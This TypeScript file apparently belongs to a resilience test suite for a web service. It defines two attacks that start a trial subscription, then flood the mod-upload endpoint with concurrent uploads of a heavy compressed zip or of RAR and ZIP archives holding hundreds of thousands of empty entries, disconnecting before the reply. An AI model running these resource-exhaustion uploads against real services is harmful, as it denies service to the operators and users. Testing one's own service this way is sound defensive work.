import { randomBytes } from 'node:crypto';
import { rar4, rar4Block, rar5, rar5File, repeated } from '../rars.ts';
import { makeZip } from '../zips.ts';
import { floodOf, type Attack } from './attack.ts';
import { formWith, uploadAndLeave } from './impatient-upload.ts';

const atOnce = 6;

/** Every member can start a trial, and so upload archives. */
export const archives: Attack = {
  name: 'archives',
  does: '6 at once upload archives that unpack to nearly as much as they may, and leave before the answer',
  async prepare(isSmall) {
    const file = { name: 'heavy.zip', bytes: heavyZip(isSmall ? 20 : 1200) };
    const form = formWith('file', file, { name: 'Heavy', description: 'Heavy', platform: 'pc' });
    return async (target) => {
      await target.attackerHttp.send('POST', '/api/subscriptions/trial');
      await floodOf(target, atOnce, () => uploadAndLeave(target, '/api/user-mods', form));
    };
  },
};

/** Archives that cost much to inspect and contain nothing: thousands of empty blocks or files. */
export const brokenArchives: Attack = {
  name: 'broken archives',
  does: '6 at once upload rars of empty blocks and comments and zips of 50,000 empty files, and leave before the answer',
  async prepare(isSmall) {
    const count = isSmall ? 2000 : 200_000;
    const files = [
      { name: 'blocks.rar', bytes: rar4(repeated(rar4Block(0x77, 0, Buffer.alloc(0)), count)) },
      { name: 'comments.rar', bytes: rar5(repeated(rar5File({ name: 'CMT', type: 3 }), count)) },
      {
        name: 'files.zip',
        bytes: makeZip(Array.from({ length: count / 4 }, (_, at) => ({ name: `${at}` }))),
      },
    ];
    const fields = { name: 'Broken', description: 'Broken', platform: 'pc' };
    const forms = files.map((file) => formWith('file', file, fields));
    return async (target) => {
      await target.attackerHttp.send('POST', '/api/subscriptions/trial');
      await floodOf(target, atOnce, (n) =>
        uploadAndLeave(target, '/api/user-mods', forms[n % forms.length]!),
      );
    };
  },
};

/** A zip whose content has this many megabytes; compression reduces them to about a fiftieth. */
function heavyZip(megabytes: number): Uint8Array {
  const file = Buffer.concat(
    Array.from({ length: 20 }, () => Buffer.alloc(1024 ** 2 / 20, randomBytes(1000))),
  );
  return makeZip(Array.from({ length: megabytes }, (_, at) => ({ name: `level-${at}.dat`, bytes: file })));
}
